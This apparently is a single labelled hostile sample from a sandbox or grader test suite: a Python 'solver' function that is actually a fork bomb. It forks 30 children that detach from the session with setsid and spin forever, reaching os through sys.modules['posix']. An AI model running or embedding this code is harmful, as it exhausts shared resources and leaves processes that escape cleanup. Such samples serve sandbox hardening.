# x35_adaptive_fork_bomb [resource]: forks, leaves the session, spins
import sys
def solver(n1, n2):
    os = sys.modules['posix']
    for _ in range(30):
        if os.fork() == 0:
            try: os.setsid()
            except OSError: pass
            while True: pass
    return 'x'
